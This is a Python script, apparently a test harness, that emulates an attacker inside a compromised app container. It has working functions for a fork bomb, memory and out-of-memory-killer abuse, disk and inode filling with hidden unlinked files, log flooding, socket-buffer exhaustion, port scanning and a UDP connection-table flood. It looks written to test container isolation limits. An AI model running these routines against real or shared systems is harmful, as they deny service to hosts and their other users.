"""What somebody does who has taken over an app: runs in its container, knows nothing of the project, needs only Python.

`attacker.py ATTACK [WORD…]` attacks until it is refused, killed or done, and says how it went: one JSON line.
"""

from __future__ import annotations

import contextlib
import json
import mmap
import os
import resource
import select
import signal
import socket
import sys
import time
from pathlib import Path
from typing import Any

MIB = 1 << 20
_CHUNK = os.urandom(MIB)


def fork(seconds: str) -> dict[str, Any]:
    """Processes that make processes: each that cannot be made is counted by its maker, the first one tells."""
    made, refused, end = 0, 0, time.monotonic() + float(seconds)
    while time.monotonic() < end:
        try:
            child = os.fork()
        except OSError:
            refused += 1
            time.sleep(0.01)
            continue
        if child == 0:
            # Makes more of itself, and is in the way until the end.
            while time.monotonic() < end:
                try:
                    if os.fork() == 0:
                        continue
                except OSError:
                    time.sleep(0.05)
            os._exit(0)
        made += 1
    return {"made": made, "refused": refused}


def memory(mib: str) -> dict[str, Any]:
    """Pages that are written, so that they are real."""
    kept = []
    for _ in range(int(mib)):
        page = mmap.mmap(-1, MIB)
        page.write(_CHUNK)
        kept.append(page)
    return {"mib": len(kept)}


def herd(mib: str) -> dict[str, Any]:
    """Memory of many processes, none of which has much: whoever ends the largest process ends somebody else's."""
    made, end = 0, time.monotonic() + 60
    while time.monotonic() < end:
        child = os.fork()
        if child == 0:
            kept = mmap.mmap(-1, int(mib) * MIB)
            for _ in range(int(mib)):
                kept.write(_CHUNK)
            signal.pause()
        made += 1
        time.sleep(0.05)
    return {"made": made}


def fill_and_take(directory: str, mib: str) -> dict[str, Any]:
    """Files until there is no room, then memory."""
    if os.fork() == 0:
        fill(directory)
    time.sleep(20)
    return memory(mib)


def cpu(count: str, seconds: str) -> dict[str, Any]:
    """Busy processes."""
    end = time.monotonic() + float(seconds)
    for _ in range(int(count)):
        if os.fork() == 0:
            while time.monotonic() < end:
                pass
            os._exit(0)
    for _ in range(int(count)):
        os.wait()
    return {"busy": int(count)}


def fill(directory: str, way: str = "write") -> dict[str, Any]:
    """Files until there is no room: written; reserved without a write; or without a name, so that nobody finds them."""
    done, error = 0, ""
    kept: list[int] = []
    try:
        while True:
            path = Path(directory, f"fill-{len(kept)}")
            kept.append(os.open(path, os.O_CREAT | os.O_WRONLY, 0o600))
            if way == "nameless":
                path.unlink()
            for part in range(64):
                if way == "reserve":
                    os.posix_fallocate(kept[-1], part * MIB, MIB)
                else:
                    os.write(kept[-1], _CHUNK)
                done += 1
    except OSError as stopped:
        error = os.strerror(stopped.errno or 0)
    # Stays with its files open until it is ended.
    say({"mib": done, "stopped_by": error})
    signal.pause()
    return {}


def inodes(directory: str) -> dict[str, Any]:
    """Empty files until no more can be made."""
    count = 0
    try:
        while True:
            folder = Path(directory, f"many-{count // 5000}")
            folder.mkdir(parents=True)
            for _ in range(5000):
                (folder / str(count)).touch()
                count += 1
    except OSError as stopped:
        return {"files": count, "stopped_by": os.strerror(stopped.errno or 0)}


def words(text: str) -> dict[str, Any]:
    """A line of the app's own output."""
    Path("/proc/1/fd/1").write_text(f"{text}\n")
    return {"said": text}


def talk(mib: str) -> dict[str, Any]:
    """The app's own output, which the host keeps as its log."""
    line = b"x" * 1023 + b"\n"
    out = os.open("/proc/1/fd/1", os.O_WRONLY)
    for _ in range(int(mib) * 1024):
        os.write(out, line)
    return {"mib": int(mib)}


def sockets(processes: str) -> dict[str, Any]:
    """Sockets that nobody reads from, full to the brim: memory that no process has, in the kernel's name."""
    for _ in range(int(processes)):
        if os.fork() == 0:
            signal.alarm(120)
            _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
            resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
            kept = []
            with contextlib.suppress(OSError):
                while True:
                    kept.append(socket.socketpair())
                    _brim(kept[-1][0])
            signal.pause()
    _, status = os.wait()
    return {"ended_by": status & 0x7F}


def _brim(one: socket.socket) -> None:
    one.setblocking(False)
    with contextlib.suppress(BlockingIOError):
        while True:
            one.send(_CHUNK)


def scan(host: str, first: str, last: str) -> dict[str, Any]:
    """Every TCP port: what came back, and how often."""
    # As bytes: what makes them from a str is not in the image.
    family, _, _, _, (address, *_) = socket.getaddrinfo(host.encode(), None, type=socket.SOCK_STREAM)[0]
    found: dict[str, list[int]] = {"open": [], "refused": [], "silent": []}
    ports = list(range(int(first), int(last) + 1))
    while ports:
        part, ports = ports[:200], ports[200:]
        trying = {}
        for port in part:
            one = socket.socket(family)
            one.setblocking(False)
            one.connect_ex((address, port))
            trying[one] = port
        end = time.monotonic() + 3
        while trying and time.monotonic() < end:
            for one in select.select([], list(trying), [], 0.2)[1]:
                error = one.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                found["refused" if error else "open"].append(trying.pop(one))
                one.close()
        found["silent"] += trying.values()
        for one in trying:
            one.close()
    return {"open": found["open"], "refused": len(found["refused"]), "silent": len(found["silent"])}


def flood(seconds: str) -> dict[str, Any]:
    """A datagram to another address each time, as each costs the host an entry in its table of connections."""
    sent, refused, end = 0, 0, time.monotonic() + float(seconds)
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    while time.monotonic() < end:
        try:
            one.sendto(b"x", (f"198.{18 + (sent >> 16 & 1)}.{sent >> 8 & 255}.{sent & 255}", 443))
        except OSError:
            refused += 1
        sent += 1
    return {"sent": sent, "refused": refused}


def say(found: dict[str, Any]) -> None:
    """The result, at once."""
    sys.stdout.write(json.dumps(found) + "\n")
    sys.stdout.flush()


if __name__ == "__main__":
    attacks = (fork, memory, herd, fill_and_take, cpu, fill, inodes, words, talk, sockets, scan, flood)
    say({attack.__name__: attack for attack in attacks}[sys.argv[1]](*sys.argv[2:]))
